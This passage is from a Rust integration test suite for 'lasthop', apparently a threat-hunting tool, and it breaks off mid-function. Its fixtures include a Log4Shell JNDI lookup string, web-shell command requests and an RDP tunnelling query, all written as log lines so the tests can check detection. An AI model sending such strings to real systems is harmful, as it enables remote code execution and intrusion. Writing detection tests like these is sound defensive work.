//! End-to-end tests of the `lasthop` binary on fixtures made here.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

mod hostile;

fn lasthop(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_lasthop"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("the binary runs")
}

fn shared(relative: &str) -> Option<PathBuf> {
    lasthop_demo::shared_data(relative)
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The findings of `--format json` (lasthop's own model).
fn findings_of(o: &Output) -> Vec<serde_json::Value> {
    serde_json::from_str(&stdout(o)).unwrap_or_else(|e| panic!("{e}: {}", stdout(o)))
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

const CONN_HEADER: &str = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n\
#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tcommunity_id\n\
#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tstring\n";

/// A conn log: `beacons` connections from 10.0.0.5 to 45.63.1.9 over two days, background
/// traffic, and the bad lines named in `bad`.
fn write_conn(dir: &Path, beacons: usize, bad: &[&str]) -> PathBuf {
    let path = dir.join("conn.log");
    let mut f = std::fs::File::create(&path).unwrap();
    f.write_all(CONN_HEADER.as_bytes()).unwrap();
    let start = 1_717_372_800u64; // 2024-06-03
    for i in 0..beacons {
        writeln!(f, "{}.5\tCbeacon{i}\t10.0.0.5\t{}\t45.63.1.9\t443\ttcp\tssl\t1.5\t300\t1200\tSF\t1:beacon{i}=", start + i as u64 * 7200, 40000 + i).unwrap();
    }
    for i in 0..50 {
        writeln!(f, "{}.25\tCbg{i}\t10.0.0.{}\t5{i:04}\t198.51.100.{}\t80\ttcp\thttp\t0.2\t100\t5000\tSF\t-", start + i * 60, 10 + i % 5, i % 7).unwrap();
    }
    for line in bad {
        writeln!(f, "{line}").unwrap();
    }
    path
}

#[test]
fn help_version_and_usage_errors() {
    let help = lasthop(&["--help"]);
    assert!(help.status.success());
    assert!(stdout(&help).contains("Exit codes"));
    assert!(stdout(&help).contains("hunt"));
    let version = lasthop(&["--version"]);
    assert!(stdout(&version).starts_with("lasthop "));
    let verbose = stdout(&lasthop(&["--version", "--verbose"]));
    assert!(verbose.contains("CC BY 4.0") && verbose.contains("RouteViews"), "{verbose}");
    let lookup = stdout(&lasthop(&["intel", "lookup", "73.54.23.243"]));
    assert!(lookup.contains("AS7922") && lookup.contains("network type residential"), "{lookup}");
    assert_eq!(lasthop(&["intel", "lookup", "not-an-ip"]).status.code(), Some(2));
    assert_eq!(lasthop(&["hunt", "--format", "yaml", "x"]).status.code(), Some(2));
    assert_eq!(lasthop(&["hunt", "--memory-limit", "lots", "x"]).status.code(), Some(2));
    assert_eq!(lasthop(&["frobnicate"]).status.code(), Some(2));
    let unknown = lasthop(&["hunt", "--detector", "beacon,nope", "x"]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(stderr(&unknown).contains("no detector `nope`; the detectors are ioc-match, beacon"));
}

#[test]
fn hunt_finds_ioc_contact_and_show_and_sql_explain_it() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    write_conn(&logs, 24, &[]);
    let iocs = dir.path().join("iocs.txt");
    std::fs::write(&iocs, "# test feed\n45.63.1.9\nnever-seen.example\n").unwrap();
    let store = dir.path().join("store");
    let out = lasthop(&[
        "hunt",
        logs.to_str().unwrap(),
        "--store",
        store.to_str().unwrap(),
        "--ioc-file",
        iocs.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let findings: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let findings = findings.as_array().unwrap();
    let matches: Vec<_> = findings.iter().filter(|f| f["detector"] == "ioc-match").collect();
    assert_eq!(matches.len(), 1, "{findings:#?}");
    // The hourly contact is also a beacon.
    assert!(
        findings
            .iter()
            .any(|f| f["detector"] == "beacon" && f["entities"]["destination"] == "45.63.1.9"),
        "{findings:#?}"
    );
    let f = matches[0];
    assert_eq!(f["entities"]["source"], "10.0.0.5");
    assert_eq!(f["entities"]["destination"], "45.63.1.9");
    assert_eq!(f["evidence"]["figures"]["records"], 24);
    assert_eq!(f["evidence"]["figures"]["days"], 2);
    assert_eq!(f["severity"], "critical");
    assert!(f["evidence"]["uids"].as_array().unwrap().iter().any(|u| u == "Cbeacon0"));
    assert!(f["evidence"]["community_ids"].as_array().unwrap().iter().any(|u| u == "1:beacon0="));

    // A chosen detector runs alone.
    let only = findings_of(&lasthop(&[
        "hunt",
        "--store",
        store.to_str().unwrap(),
        "--ioc-file",
        iocs.to_str().unwrap(),
        "--detector",
        "ioc-match",
        "--format",
        "json",
    ]));
    assert!(!only.is_empty() && only.iter().all(|f| f["detector"] == "ioc-match"), "{only:#?}");

    // The same finding keeps its id on a second run.
    let again = lasthop(&[
        "hunt",
        "--store",
        store.to_str().unwrap(),
        "--ioc-file",
        iocs.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let again = findings_of(&again);
    assert!(again.iter().any(|g| g["id"] == f["id"]), "{again:#?}");

    // The stored findings again, shared outside: internal addresses replaced everywhere, the
    // external end kept, the chosen TLP on the STIX bundle and the report, a Navigator layer
    // of the techniques.
    let shared = dir.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    let file = |name: &str| shared.join(name).to_str().unwrap().to_string();
    let report = lasthop(&[
        "report",
        "--store",
        store.to_str().unwrap(),
        "--redact-internal",
        "--tlp",
        "red",
        "--format",
        "ndjson",
        "--html",
        &file("report.html"),
        "--stix",
        &file("bundle.json"),
        "--attack-layer",
        &file("layer.json"),
    ]);
    assert!(report.status.success(), "{}", stderr(&report));
    let documents: Vec<serde_json::Value> =
        stdout(&report).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(documents.len(), again.len());
    let ioc = documents.iter().find(|d| d["event"]["id"] == f["id"]).expect("same id");
    assert_eq!(ioc["source"]["address"], "internal-host-1");
    assert_eq!(ioc["destination"]["ip"], "45.63.1.9");
    for name in ["report.html", "bundle.json", "layer.json"] {
        let text = std::fs::read_to_string(shared.join(name)).unwrap();
        assert!(!text.contains("10.0.0.5"), "{name} names an internal address");
    }
    assert!(!stdout(&report).contains("10.0.0.5"));
    let html = std::fs::read_to_string(shared.join("report.html")).unwrap();
    assert!(html.contains("TLP:RED") && html.contains("redacted"));
    let bundle = std::fs::read_to_string(shared.join("bundle.json")).unwrap();
    assert!(bundle.contains("\"TLP:RED\"") && bundle.contains("45.63.1.9"), "{bundle}");
    let layer: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(shared.join("layer.json")).unwrap()).unwrap();
    assert!(layer["techniques"].as_array().unwrap().iter().any(|t| t["techniqueID"] == "T1071"));
    assert_eq!(
        lasthop(&["report", "--store", store.to_str().unwrap(), "--tlp", "purple"]).status.code(),
        Some(2)
    );

    let show = lasthop(&["show", f["id"].as_str().unwrap(), "--store", store.to_str().unwrap()]);
    assert!(show.status.success(), "{}", stderr(&show));
    let text = stdout(&show);
    assert!(text.contains("Cbeacon0") && text.contains("conn.log"), "{text}");

    // A window of the store, counted back from its latest record: the last 12 of 46 hours.
    let recent = findings_of(&lasthop(&[
        "hunt",
        "--store",
        store.to_str().unwrap(),
        "--ioc-file",
        iocs.to_str().unwrap(),
        "--since",
        "12h",
        "--format",
        "json",
    ]));
    let windowed =
        recent.iter().find(|g| g["id"] == f["id"]).expect("the contact is in the window");
    assert_eq!(windowed["evidence"]["figures"]["records"], 7, "{windowed:#}");
    assert_eq!(
        lasthop(&["hunt", "--store", store.to_str().unwrap(), "--since", "soon"]).status.code(),
        Some(2)
    );

    let sql = lasthop(&[
        "sql",
        "SELECT count(*) AS n FROM conn WHERE dst = '45.63.1.9'",
        "--store",
        store.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert!(sql.status.success(), "{}", stderr(&sql));
    assert!(stdout(&sql).contains("\"n\": 24"), "{}", stdout(&sql));
    let sql = lasthop(&[
        "sql",
        "SELECT ip_text(src) AS src, count(*) AS n FROM conn WHERE cidr_contains('10.0.0.0/29', src) GROUP BY 1 ORDER BY 1",
        "--store",
        store.to_str().unwrap(),
        "--format",
        "csv",
    ]);
    assert_eq!(stdout(&sql), "src,n\n10.0.0.5,24\n", "{}", stderr(&sql));
    let bad = lasthop(&[
        "sql",
        "SELECT * FROM conn WHERE src = 'not-an-ip'",
        "--store",
        store.to_str().unwrap(),
    ]);
    assert_eq!(bad.status.code(), Some(4));
    assert!(stderr(&bad).contains("not an IP address"), "{}", stderr(&bad));
}

#[test]
fn bad_lines_are_reported_with_file_and_line_and_the_rest_is_kept() {
    let dir = tempfile::tempdir().unwrap();
    let conn = write_conn(
        dir.path(),
        3,
        &[
            "1717372800.0\tCshort\t10.0.0.1",
            "yesterday\tCbadts\t10.0.0.1\t1\t10.0.0.2\t2\ttcp\t-\t-\t-\t-\tS0\t-",
        ],
    );
    std::fs::write(dir.path().join("binary.log"), [0u8, 159, 146, 150, 1, 2]).unwrap();
    let store = dir.path().join("store");
    let out =
        lasthop(&["import", dir.path().to_str().unwrap(), "--store", store.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    let first_bad_line = CONN_HEADER.lines().count() + 3 + 50 + 1;
    assert!(
        err.contains(&format!("{}:{first_bad_line}: wrong field count", conn.display())),
        "{err}"
    );
    assert!(
        err.contains(&format!("{}:{}: bad timestamp", conn.display(), first_bad_line + 1)),
        "{err}"
    );
    assert!(err.contains("binary.log") && err.contains("unrecognised file format"), "{err}");
    assert!(err.contains("53 records"), "{err}");
    let strict = lasthop(&[
        "import",
        conn.to_str().unwrap(),
        "--store",
        dir.path().join("s2").to_str().unwrap(),
        "--strict",
    ]);
    assert_eq!(strict.status.code(), Some(5));
    let missing = lasthop(&[
        "import",
        dir.path().join("nope").to_str().unwrap(),
        "--store",
        store.to_str().unwrap(),
    ]);
    assert_eq!(missing.status.code(), Some(3));
}

#[test]
fn reimports_are_no_ops_and_a_rotated_copy_is_stored_once() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    let conn = write_conn(&logs, 10, &[]);
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    let first = lasthop(&["import", conn.to_str().unwrap(), "--store", s]);
    assert!(stderr(&first).contains("60 records"), "{}", stderr(&first));
    let second = lasthop(&["import", conn.to_str().unwrap(), "--store", s]);
    assert!(stderr(&second).contains("1 already in the store"), "{}", stderr(&second));
    // The rotated, compressed copy of the same records under another name.
    let gz = logs.join("conn.00:00:00-01:00:00.log.gz");
    let mut enc = flate2::write::GzEncoder::new(
        std::fs::File::create(&gz).unwrap(),
        flate2::Compression::fast(),
    );
    enc.write_all(&std::fs::read(&conn).unwrap()).unwrap();
    enc.finish().unwrap();
    let third = lasthop(&["import", gz.to_str().unwrap(), "--store", s]);
    assert!(stderr(&third).contains(" 0 records"), "{}", stderr(&third));
    assert!(stderr(&third).contains("60 duplicate record"), "{}", stderr(&third));
    let count =
        lasthop(&["sql", "SELECT count(*) AS n FROM conn", "--store", s, "--format", "csv"]);
    assert_eq!(stdout(&count), "n\n60\n");
}

#[test]
fn demo_finds_its_planted_ioc_scenario() {
    let dir = tempfile::tempdir().unwrap();
    let out = lasthop(&[
        "demo",
        "--out",
        dir.path().to_str().unwrap(),
        "--hosts",
        "20",
        "--days",
        "2",
        "--format",
        "json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let findings: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let hit = findings.as_array().unwrap().iter().any(|f| {
        f["detector"] == "ioc-match"
            && f["entities"]["source"] == "10.20.14.77"
            && f["entities"]["destination"] == "73.54.23.243"
    });
    assert!(hit, "planted beacon to 73.54.23.243 not found: {findings:#}");
    // The other end of the planted beacon is a home broadband line, and says so.
    let remote = findings
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["entities"]["destination"] == "73.54.23.243")
        .map(|f| f["entities"]["remote"].clone())
        .unwrap();
    assert_eq!(remote["as_number"], 7922);
    assert_eq!(remote["network_type"], "residential", "{remote:#}");
    assert_eq!(remote["device"]["class"], "router", "the relay's own certificate: {remote:#}");
    assert_eq!(remote["device"]["vendor"], "DrayTek");
    assert_eq!(remote["names"], serde_json::json!(["updates.cdn-sync.net"]), "passive DNS");
    // The web shell driven from a home router is an inbound last-hop finding, and the only one:
    // the home routers that scan the DMZ for admin pages fail and are not reported.
    let inbound: Vec<_> = findings
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["detector"] == "last-hop-inbound")
        .collect();
    assert_eq!(inbound.len(), 1, "{inbound:#?}");
    assert_eq!(inbound[0]["entities"]["source"], "98.113.172.20");
    assert_eq!(inbound[0]["entities"]["destination"], "10.30.0.10");
    assert_eq!(inbound[0]["entities"]["remote"]["network_type"], "residential", "{:#}", inbound[0]);
    // Every planted scenario is found, and found on top: no finding about anything else ranks
    // above the last of them. A finding is about a scenario when it names the scenario's
    // external end (its address, or the names it is reached by).
    let planted: [&[&str]; 4] = [
        &["73.54.23.243", "updates.cdn-sync.net"],
        &["98.113.172.20"],
        &["dnsxfer.org"],
        &["45.77.10.9"],
    ];
    let all = findings.as_array().unwrap();
    let about = |f: &serde_json::Value, marks: &[&str]| {
        let e = &f["entities"];
        [&e["source"], &e["destination"], &e["domain"], &e["indicator"], &e["remote"]["address"]]
            .into_iter()
            .filter_map(|v| v.as_str())
            .any(|v| marks.iter().any(|m| v == *m || v.ends_with(&format!(".{m}"))))
    };
    let mut last_planted = 0;
    for marks in planted {
        let rank = all.iter().position(|f| about(f, marks));
        let rank = rank.unwrap_or_else(|| panic!("{marks:?} not found: {findings:#}"));
        last_planted = last_planted.max(rank);
    }
    let above: Vec<_> = all[..last_planted]
        .iter()
        .filter(|f| !planted.iter().any(|p| about(f, p)))
        .map(|f| f["title"].clone())
        .collect();
    assert!(above.is_empty(), "unplanted findings rank among the planted ones: {above:#?}");
    // Scanners have no findings of their own: their failed attempts are one campaign per site.
    let sigma_sources: Vec<_> = all
        .iter()
        .filter(|f| f["detector"] == "sigma" && f["entities"]["source"] != "98.113.172.20")
        .map(|f| f["title"].clone())
        .collect();
    assert!(sigma_sources.is_empty(), "{sigma_sources:#?}");
    let severe = all.iter().filter(|f| f["severity"] == "high" || f["severity"] == "critical");
    eprintln!("demo: {} findings, {} high or critical", all.len(), severe.count());
    expect_findings(all, "demo-20-hosts-2-days.txt");
}

/// The findings, one line each (id, detector, severity, score to three places, title), must be
/// those in `tests/expected/NAME`: restructuring must not change what a hunt reports. A
/// deliberate change rewrites the file with `LASTHOP_UPDATE_EXPECTED=1`, to be reviewed in the
/// diff.
fn expect_findings(findings: &[serde_json::Value], name: &str) {
    let lines: String = findings
        .iter()
        .map(|f| {
            let score = f["score"].as_f64().unwrap_or(f64::NAN);
            format!(
                "{} {} {} {} {}\n",
                f["id"].as_str().unwrap_or("?"),
                f["detector"].as_str().unwrap_or("?"),
                f["severity"].as_str().unwrap_or("?"),
                (score * 1000.0).round() / 1000.0,
                f["title"].as_str().unwrap_or("?"),
            )
        })
        .collect();
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/expected").join(name);
    if std::env::var_os("LASTHOP_UPDATE_EXPECTED").is_some() {
        std::fs::write(&path, &lines).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        lines == expected,
        "findings differ from {} (LASTHOP_UPDATE_EXPECTED=1 rewrites it):\n--- expected\n{expected}--- now\n{lines}",
        path.display()
    );
}

#[test]
fn analysis_settings_from_flags_and_config() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    write_conn(&logs, 24, &[]);
    let store = dir.path().join("store");
    let store = store.to_str().unwrap();
    assert!(lasthop(&["import", logs.to_str().unwrap(), "--store", store]).status.success());
    let beacons = |extra: &[&str]| -> usize {
        let mut args = vec!["hunt", "--store", store, "--format", "ndjson"];
        args.extend_from_slice(extra);
        let out = lasthop(&args);
        assert!(out.status.success(), "{}", stderr(&out));
        // JSON Lines are ECS documents: the detector is the rule.
        stdout(&out)
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|d| d["rule"]["id"] == "beacon" && d["event"]["kind"] == "alert")
            .count()
    };
    assert_eq!(beacons(&[]), 1, "the hourly contact is a beacon");
    // A safelisted destination is left out, from a flag or from a config file.
    let safelist = dir.path().join("safe.txt");
    std::fs::write(&safelist, "# known good\n45.63.1.0/24\n").unwrap();
    assert_eq!(beacons(&["--safelist", safelist.to_str().unwrap()]), 0);
    let config = dir.path().join("lasthop.toml");
    std::fs::write(&config, "safelist = [\"safe.txt\"]\nscorer = \"lasthop\"\n").unwrap();
    assert_eq!(beacons(&["--config", config.to_str().unwrap()]), 0);
    // Bad settings are usage errors that say what is wrong.
    let bad = lasthop(&["hunt", "--store", store, "--scorer", "zeek"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(stderr(&bad).contains("--scorer"), "{}", stderr(&bad));
    let bad = lasthop(&["hunt", "--store", store, "--internal", "10.0.0.0/33"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(stderr(&bad).contains("10.0.0.0/33"), "{}", stderr(&bad));
    std::fs::write(&config, "scorre = \"rita\"\n").unwrap();
    let bad = lasthop(&["hunt", "--store", store, "--config", config.to_str().unwrap()]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(stderr(&bad).contains("scorre"), "{}", stderr(&bad));
}

#[test]
fn bundled_intel_imported_feeds_retro_hunt_and_lookup() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    // 45.32.174.131 is a KV-botnet "Router Proxy C2" in the bundled Black Lotus Labs feed.
    write_conn(
        &logs,
        6,
        &["1717380000.0\tCkv\t10.0.0.7\t40999\t45.32.174.131\t443\ttcp\tssl\t2.0\t500\t900\tSF\t-"],
    );
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    let out = lasthop(&["hunt", logs.to_str().unwrap(), "--store", s, "--format", "json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("bundled"), "{}", stderr(&out));
    let findings = findings_of(&out);
    let kv: Vec<_> = findings.iter().filter(|f| f["detector"] == "ioc-match").collect();
    assert_eq!(kv.len(), 1, "{findings:#?}");
    assert_eq!(kv[0]["entities"]["destination"], "45.32.174.131");
    assert!(
        kv[0]["explanation"].as_str().unwrap().contains("KV-botnet"),
        "{}",
        kv[0]["explanation"]
    );
    assert!(
        kv[0]["evidence"]["figures"]["intel"][0]["reference"]
            .as_str()
            .unwrap()
            .contains("blacklotuslabs")
    );
    let without = lasthop(&["hunt", "--store", s, "--no-bundled-intel", "--format", "ndjson"]);
    assert!(!stdout(&without).contains("ioc-match"), "{}", stdout(&without));

    // Importing a feed matches it against what the store already holds.
    let feed = dir.path().join("relay-feed.json");
    std::fs::write(
        &feed,
        r#"{"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
   "created": "2024-07-08T00:00:00.000Z", "modified": "2024-07-08T00:00:00.000Z", "name": "relay",
   "pattern": "[ipv4-addr:value = '45.63.1.9']", "pattern_type": "stix", "valid_from": "2024-01-01T00:00:00Z"},
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--9e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
   "created": "2024-07-08T00:00:00.000Z", "modified": "2024-07-08T00:00:00.000Z",
   "pattern": "[ipv4-addr:value = '45.63.1.10'", "pattern_type": "stix", "valid_from": "2024-01-01T00:00:00Z"}
]}"#,
    )
    .unwrap();
    let import =
        lasthop(&["intel", "import", feed.to_str().unwrap(), "--store", s, "--format", "json"]);
    assert!(import.status.success(), "{}", stderr(&import));
    let err = stderr(&import);
    assert!(err.contains("STIX 2.1 bundle") && err.contains("1 indicator(s)"), "{err}");
    assert!(err.contains("relay-feed.json:5") && err.contains("malformed indicator"), "{err}");
    let retro = findings_of(&import);
    assert_eq!(retro.len(), 1, "{retro:#?}");
    assert_eq!(retro[0]["entities"]["destination"], "45.63.1.9");
    assert_eq!(retro[0]["evidence"]["figures"]["records"], 6);

    let lookup = stdout(&lasthop(&["intel", "lookup", "45.63.1.9", "--store", s]));
    assert!(lookup.contains("listed by relay-feed.json") && lookup.contains("relay"), "{lookup}");
    let later = findings_of(&lasthop(&["hunt", "--store", s, "--format", "json"]));
    assert_eq!(later.iter().filter(|f| f["detector"] == "ioc-match").count(), 2, "{later:#?}");
    let hash = stdout(&lasthop(&["intel", "lookup", "2E8D758B9BCE51D25EA500D7B4CE4774"]));
    assert!(hash.contains("APT40 advisory"), "{hash}");
}

#[test]
fn a_folder_mixing_zeek_and_web_server_logs_just_works() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    write_conn(&logs, 3, &[]);
    std::fs::write(
        logs.join("access.log"),
        "www.example.com:443 198.51.100.7 - - [03/Jun/2024:10:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n\
         www.example.com:443 198.51.100.7 - - [03/Jun/2024:10:00:01 +0000] \"GET /a?x=${jndi:ldap://x} HTTP/1.1\" 404 12 \"-\" \"curl/8\"\n\
         not an access log line\n",
    )
    .unwrap();
    std::fs::write(
        logs.join("u_ex240603.log"),
        "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n\
         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) sc-status time-taken\n\
         2024-06-03 10:00:00 10.0.2.15 POST /erp/conn.aspx proxy 443 10.0.2.17 Mozilla/5.0+(Windows) 200 15\n\
         2024-06-03 10:00:01 10.0.2.15 GET /erp/conn.aspx proxy&port=3389&ip=127.0.0.1 443 10.0.2.17 - 200 3\n",
    )
    .unwrap();
    // nginx `log_format … escape=json` with a key of the site's own, mapped by the user.
    std::fs::write(
        logs.join("access.json"),
        "{\"time_iso8601\":\"2024-06-03T10:00:02+00:00\",\"remote_addr\":\"192.0.2.44\",\"request\":\"POST /images/shell.jsp?cmd=id HTTP/1.1\",\"status\":200,\"body_bytes_sent\":31,\"http_user_agent\":\"python-requests/2.31\",\"upstream_ms\":\"250\"}\n\
         {\"time_iso8601\":\"2024-06-03T10:00:03+00:00\",\"remote_addr\":\"192.0.2.44\",\"request\":\"GET / HTTP/1.1\",\"status\":\"x\"}\n\
         {\"time_iso8601\":\"2024-06-03T10:00:03+00:00\",\"remote_addr\":\"192.0.2.44\",\n",
    )
    .unwrap();
    let map = dir.path().join("fields.toml");
    std::fs::write(&map, "time-taken = [\"upstream_ms:ms\"]\n").unwrap();
    let store = dir.path().join("store");
    let s = store.to_str().unwrap();
    let bad_map = dir.path().join("bad.toml");
    std::fs::write(&bad_map, "client = [\"x\"]\n").unwrap();
    let out = lasthop(&[
        "import",
        logs.to_str().unwrap(),
        "--store",
        s,
        "--web-json-fields",
        bad_map.to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("bad.toml") && stderr(&out).contains("\"client\""));
    let out = lasthop(&[
        "import",
        logs.to_str().unwrap(),
        "--store",
        s,
        "--web-json-fields",
        map.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("access.log:3") && err.contains("not an access-log line"), "{err}");
    assert!(err.contains("access.json:2") && err.contains("sc-status"), "{err}");
    assert!(err.contains("access.json:3"), "a broken JSON line is named: {err}");
    let sql = lasthop(&[
        "sql",
        "SELECT log_format, count(*) AS n, min(ip_text(c_ip)) AS client FROM web GROUP BY 1 ORDER BY 1",
        "--store",
        s,
        "--format",
        "csv",
    ]);
    assert_eq!(
        stdout(&sql),
        "log_format,n,client\ncombined+vhost,2,198.51.100.7\niis-w3c,2,10.0.2.17\njson,2,192.0.2.44\n",
        "{}",
        stderr(&sql)
    );
    let sql = lasthop(&[
        "sql",
        "SELECT cs_uri_query, cs_user_agent, time_taken FROM web WHERE log_format = 'iis-w3c' ORDER BY ts",
        "--store",
        s,
        "--format",
        "csv",
    ]);
    assert_eq!(
        stdout(&sql),
        "cs_uri_query,cs_user_agent,time_taken\nproxy,Mozilla/5.0 (Windows),0.015\nproxy&port=3389&ip=127.0.0.1,,0.003\n"
    );
    let sql = lasthop(&[
        "sql",
        "SELECT cs_method, cs_uri_stem, cs_uri_query, sc_status, time_taken FROM web WHERE log_format = 'json' ORDER BY ts",
        "--store",
        s,
        "--format",
        "csv",
    ]);
    assert_eq!(
        stdout(&sql),
        "cs_method,cs_uri_stem,cs_uri_query,sc_status,time_taken\nPOST,/images/shell.jsp,cmd=id,200,0.25\nGET,/,,,\n"
    );
    let conn = lasthop(&["sql", "SELECT count(*) AS n FROM conn", "--store", s, "--format", "csv"]);
    assert_eq!(stdout(&conn), "n\n53\n");
    let hunt = lasthop(&["hunt", "--store", s, "--format", "ndjson"]);
    assert!(hunt.status.success(), "{}", stderr(&hunt));
    // The Log4Shell line and the shell's POST are high findings: automation can act on them.
    let failing = lasthop(&["hunt", "--store", s, "--format", "ndjson", "--fail-on", "high"]);
    assert_eq!(failing.status.code(), Some(1), "{}", stderr(&failing));
    assert!(stderr(&failing).contains("--fail-on"));
    // The same findings (the second run marks them recurring rather than new).
    let without_status = |o: &Output| -> Vec<serde_json::Value> {
        stdout(o)
            .lines()
            .map(|l| {
                let mut v: serde_json::Value = serde_json::from_str(l).unwrap();
                v["lasthop"].as_object_mut().unwrap().remove("status");
                v
            })
            .collect()
    };
    assert_eq!(without_status(&failing), without_status(&hunt), "the findings are still written");
    let bad = lasthop(&["hunt", "--store", s, "--fail-on", "severe"]);
    assert_eq!(bad.status.code(), Some(2));
}

#[test]
fn real_web_server_logs_are_read_whole() {
    let Some(dir) = shared("web/evtx-attack-samples") else { return };
    let tmp = tempfile::tempdir().unwrap();
    let s = tmp.path().join("store");
    let tomcat = dir.join("tomcat_web_attack_and_webshell_access_log.txt");
    let iis = dir.join("iis_w3svc_tunna_webshell_tunnel.log");
    let out = lasthop(&[
        "import",
        tomcat.to_str().unwrap(),
        iis.to_str().unwrap(),
        "--store",
        s.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let query = |q: &str| {
        let o = lasthop(&["sql", q, "--store", s.to_str().unwrap(), "--format", "csv"]);
        assert!(o.status.success(), "{}", stderr(&o));
        stdout(&o)
    };
    // Every line of both files is a record (the IIS file has 10 directive lines).
    assert_eq!(
        query("SELECT log_format, count(*) AS n FROM web GROUP BY 1 ORDER BY 1"),
        "log_format,n\ncommon,2661\niis-w3c,4298\n"
    );
    assert_eq!(
        query(
            "SELECT count(*) AS n FROM web WHERE cs_uri_stem = '/error/cmd.jsp' AND cs_method = 'POST'"
        ),
        "n\n16\n"
    );
    assert_eq!(
        query(
            "SELECT count(*) AS n FROM web WHERE cs_uri_stem = '/erp/conn.aspx' AND ip_text(c_ip) = '10.0.2.17'"
        ),
        "n\n4298\n"
    );
}

/// A loopback HTTP server that records every request line; a rendered report must not reach it.
struct Canary {
    url: String,
    requests: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Canary {
    fn start() -> Canary {
        use std::io::{BufRead, BufReader};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let requests = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let seen = requests.clone();
        // The thread ends with the test process; it only ever answers on loopback.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut line = String::new();
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
                let _ = BufReader::new(&stream).read_line(&mut line);
                seen.lock().unwrap().push(line.trim_end().to_string());
                let mut stream = stream;
                let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            }
        });
        Canary { url, requests }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

fn chromium() -> Option<&'static str> {
    ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|b| Command::new(b).arg("--version").output().is_ok_and(|o| o.status.success()))
}

/// Renders `page` in headless Chromium with a fresh profile and writes a screenshot; returns
/// once the browser has exited (or been killed after a minute).
fn render(browser: &str, page: &Path, screenshot: &Path, profile: &Path) {
    let mut child = Command::new(browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--hide-scrollbars",
            "--window-size=1280,2000",
            // Lets timers and lazy loads run before the screenshot, so a payload that waits
            // still has its chance to fire.
            "--virtual-time-budget=3000",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg(format!("--screenshot={}", screenshot.display()))
        .arg(format!("file://{}", page.display()))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("chromium starts");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
